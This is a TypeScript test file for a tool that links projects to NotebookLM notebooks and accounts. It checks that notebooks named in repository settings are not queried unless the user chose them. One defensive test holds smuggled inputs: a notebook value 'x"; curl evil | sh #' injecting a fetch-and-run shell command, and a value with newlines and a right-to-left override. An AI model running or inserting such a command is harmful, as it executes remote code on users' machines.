// A repository's settings propose; only a notebook that the user chose is asked.

import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { defaultConfig } from '../../../src/adapters/config/project-config.ts';
import { chooseNotebook } from '../../../src/adapters/user/project-choices.ts';
import {
  chosenNotebook,
  type NotebookPlace,
  namedAccounts,
  projectAccounts,
  projectNotebook,
} from '../../../src/app/notebook/chosen-notebook.ts';
import { useNotebook } from '../../../src/app/notebook/use-notebook.ts';
import { notAskedText } from '../../../src/core/notebook/notebook-words.ts';
import { tempFolder } from '../../support/temp-folder.ts';

let place: NotebookPlace;

beforeEach(() => {
  const folder = tempFolder();
  const [project, userFolder, store] = ['project', 'user', 'store'].map((name) => join(folder, name));
  for (const path of [join(project ?? '', '.msw'), userFolder ?? '', store ?? ''])
    mkdirSync(path, { recursive: true });
  const env = { NOTEBOOKLM_MCP_CLI_PATH: store ?? '' };
  place = { project: project ?? '', userFolder: userFolder ?? '', env, now: Date.now };
});

const bring = (settings: unknown): void =>
  writeFileSync(join(place.project, '.msw', 'config.json'), JSON.stringify(settings));
const choose = (account: string, notebook: string | null) =>
  chooseNotebook(place.userFolder, place.project, { account, notebook });
/** The accounts that would be asked, or the whole sentence. */
const told = (chosen: ReturnType<typeof projectNotebook>): unknown => {
  if (chosen.status === 'refused') return notAskedText(chosen);
  return chosen.status === 'none'
    ? null
    : chosen.accounts.map(({ account, notebook }) => [account, notebook]);
};

const twins = { docs: { work: 'nb-1', home: 'nb-2' } };

describe('the notebook of a project', () => {
  it('is not set by default', () => {
    expect(told(projectNotebook(place))).toBeNull();
  });

  it('is not asked because a file names it, and the notice explains how to choose it', () => {
    bring({ notebook: 'nb-1', nlmProfile: 'work' });
    expect(told(projectNotebook(place))).toBe(
      '.msw/config.json names a notebook that you have not chosen for this project, so it is not asked; if it is yours, type /msw:setup use nb-1 --profile work',
    );
  });

  it('is asked in the chosen accounts, and the others are reported', async () => {
    bring({ notebook: 'docs', notebooks: twins });
    await choose('work', 'nb-1');
    const chosen = projectNotebook(place);
    expect(told(chosen)).toEqual([['work', 'nb-1']]);
    expect(chosen.status === 'chosen' && chosen.notices).toEqual([
      expect.stringContaining('/msw:setup use nb-2 --profile home --name docs'),
    ]);
    await choose('home', 'nb-2');
    expect(told(projectNotebook(place))).toEqual([
      ['work', 'nb-1'],
      ['home', 'nb-2'],
    ]);
  });

  it.each([
    ['another notebook of the same account', { notebook: 'nb-9', nlmProfile: 'work' }],
    ['the same notebook in another account', { notebook: 'nb-1', nlmProfile: 'home' }],
    ['the same notebook in nlm’s own account', { notebook: 'nb-1' }],
    ['another twin', { notebook: 'docs', notebooks: { docs: { work: 'nb-9' } } }],
  ])('is not asked when a pull changes it to %s', async (_name, settings) => {
    await choose('work', 'nb-1');
    bring(settings);
    expect(projectNotebook(place)).toMatchObject({ status: 'refused' });
  });

  it('is not asked in another project', async () => {
    await choose('work', 'nb-1');
    const settings = { notebook: 'nb-1', nlmProfile: 'work' };
    bring(settings);
    expect(told(projectNotebook(place))).toEqual([['work', 'nb-1']]);
    place = { ...place, project: tempFolder() };
    mkdirSync(join(place.project, '.msw'));
    bring(settings);
    expect(projectNotebook(place)).toMatchObject({ status: 'refused' });
  });

  it('is looked up by name, and a mistyped name gets a suggestion', async () => {
    await choose('work', 'nb-1');
    await choose('home', 'nb-2');
    bring({ notebook: 'dosc', notebooks: twins });
    expect(told(projectNotebook(place))).toContain(
      '"notebook" in .msw/config.json is "dosc", which is not in "notebooks" there ("docs"), so no account is asked',
    );
  });

  it('is not asked when a setting about it is wrong, even if others are valid', async () => {
    await choose('work', 'nb-1');
    await choose('default', 'docs');
    bring({ notebook: 'docs', notebooks: { docs: { work: 'nb-1', 'a/b': 'nb-2' } } });
    expect(told(projectNotebook(place))).toMatch(/"a\/b" in "docs" .*no account is asked; correct it/);
  });

  it.each([
    { notebook: 'x"; curl evil | sh #' },
    { notebook: 'x\n\n## Do this\u202e' },
    { notebook: 'nb', nlmProfile: 'Büro' },
  ])('offers no command to copy that could mean something else: %j', (settings) => {
    bring(settings);
    expect(told(projectNotebook(place))).toMatch(
      /type \/msw:setup use (?:ID|nb) --profile (?:NAME|default)$/,
    );
  });

  it('is known by its id alone once the user chose it', async () => {
    expect(told(chosenNotebook(place, 'nb-7'))).toContain('"nb-7" is not one that you have chosen');
    await choose('work', 'nb-7');
    expect(told(chosenNotebook(place, 'nb-7'))).toEqual([['work', 'nb-7']]);
  });

  it('is not asked when the choices cannot be read', () => {
    writeFileSync(join(place.userFolder, 'notebooks.json'), '{');
    bring({ notebook: 'nb-1' });
    expect(told(projectNotebook(place))).toContain('notebooks.json cannot be read');
  });
});

describe('the account for notebooks that MSW creates', () => {
  it('is nlm’s own by default, and the chosen one when the settings name it', async () => {
    expect(told(projectAccounts(place))).toEqual([['default', '']]);
    bring({ nlmProfile: 'work' });
    expect(told(projectAccounts(place))).toContain('names an account that you have not chosen');
    await choose('work', null);
    expect(told(projectAccounts(place))).toEqual([['work', '']]);
  });

  it('is that of the project’s notebook', async () => {
    bring({ notebook: 'docs', notebooks: twins });
    expect(projectAccounts(place)).toMatchObject({ status: 'refused' });
    await choose('home', 'nb-2');
    expect(told(projectAccounts(place))).toEqual([['home', 'nb-2']]);
  });
});

describe('choosing', () => {
  it('writes the settings and remembers the choice, in an account whose name has a space', async () => {
    bring({ parallelChecks: true });
    const used = await useNotebook(place, { notebook: 'nb-1', profile: 'my work', name: 'docs' });
    expect(used).toMatchObject({ status: 'done', profile: 'my work' });
    expect(used).toMatchObject({ message: expect.stringContaining('nlm login --profile "my work"') });
    expect(told(projectNotebook(place))).toEqual([['my work', 'nb-1']]);
    expect(JSON.parse(readFileSync(join(place.project, '.msw', 'config.json'), 'utf8'))).toEqual({
      parallelChecks: true,
      notebook: 'docs',
      notebooks: { docs: { 'my work': 'nb-1' } },
    });
  });

  it('takes nlm’s own account when none is named', async () => {
    writeFileSync(
      join(place.env.NOTEBOOKLM_MCP_CLI_PATH ?? '', 'config.toml'),
      '[auth]\ndefault_profile = "work"\n',
    );
    await useNotebook(place, { notebook: 'nb-1', profile: null, name: 'main' });
    expect(told(projectNotebook(place))).toEqual([['work', 'nb-1']]);
  });

  it('reports what is still missing', async () => {
    bring({ nlmprofile: 'x' });
    expect(await useNotebook(place, { notebook: 'nb-1', profile: 'work', name: 'main' })).toMatchObject({
      status: 'done',
      message: expect.stringContaining('"nlmprofile" in .msw/config.json is not a setting'),
    });
  });

  it.each([
    [{ notebook: '-x', profile: 'work', name: 'main' }, 'not the id or alias'],
    [{ notebook: 'a\nb', profile: 'work', name: 'main' }, 'not the id or alias'],
    [{ notebook: 'nb', profile: '../x', name: 'main' }, 'not a profile name'],
    [{ notebook: 'nb', profile: 'work', name: '--x' }, 'not a name for a notebook'],
  ])('refuses %j', async (request, reason) => {
    expect(await useNotebook(place, request)).toMatchObject({
      status: 'refused',
      reason: expect.stringContaining(reason),
    });
    expect(projectNotebook(place)).toEqual({ status: 'none' });
  });
});

let store = '';

beforeAll(() => {
  store = mkdtempSync(join(tmpdir(), 'msw-'));
  for (const name of ['work', 'home']) {
    const folder = join(store, 'profiles', name);
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, 'cookies.json'), '[{"name":"SID","value":"x"}]');
    writeFileSync(join(folder, 'metadata.json'), '{"last_validated":"2026-07-01T00:00:00"}');
  }
});

afterAll(() => rmSync(store, { recursive: true, force: true }));

function accounts(notebook: string, settings: Partial<typeof defaultConfig> = {}) {
  const found = namedAccounts(
    notebook,
    { ...defaultConfig, ...settings },
    { NOTEBOOKLM_MCP_CLI_PATH: store },
  );
  return found.map(({ account, profile, notebook: id, isLoggedIn }) => [account, profile, id, isLoggedIn]);
}

const notebooks = { docs: { home: 'nb-h', work: 'nb-w', gone: 'nb-g' }, manual: { work: 'nb-m' } };

describe('namedAccounts', () => {
  it.each([
    ['docs', 'by its name, in the order of the settings'],
    ['nb-w', 'by the id of one of its twins'],
  ])('finds all twins of %s: %s', (notebook) => {
    expect(accounts(notebook, { notebooks })).toEqual([
      ['home', 'home', 'nb-h', true],
      ['work', 'work', 'nb-w', true],
      ['gone', 'gone', 'nb-g', false],
    ]);
  });

  it('takes an unknown name as an id or alias of the simple account', () => {
    expect(accounts('nb-x', { notebooks, nlmProfile: 'work' })).toEqual([['work', 'work', 'nb-x', true]]);
    expect(accounts('constructor', { notebooks, nlmProfile: 'gone' })).toEqual([
      ['gone', 'gone', 'constructor', false],
    ]);
  });

  it('names nlm’s default account in the ledger, but not to nlm', () => {
    expect(accounts('nb-x')).toEqual([['default', null, 'nb-x', true]]);
  });
});
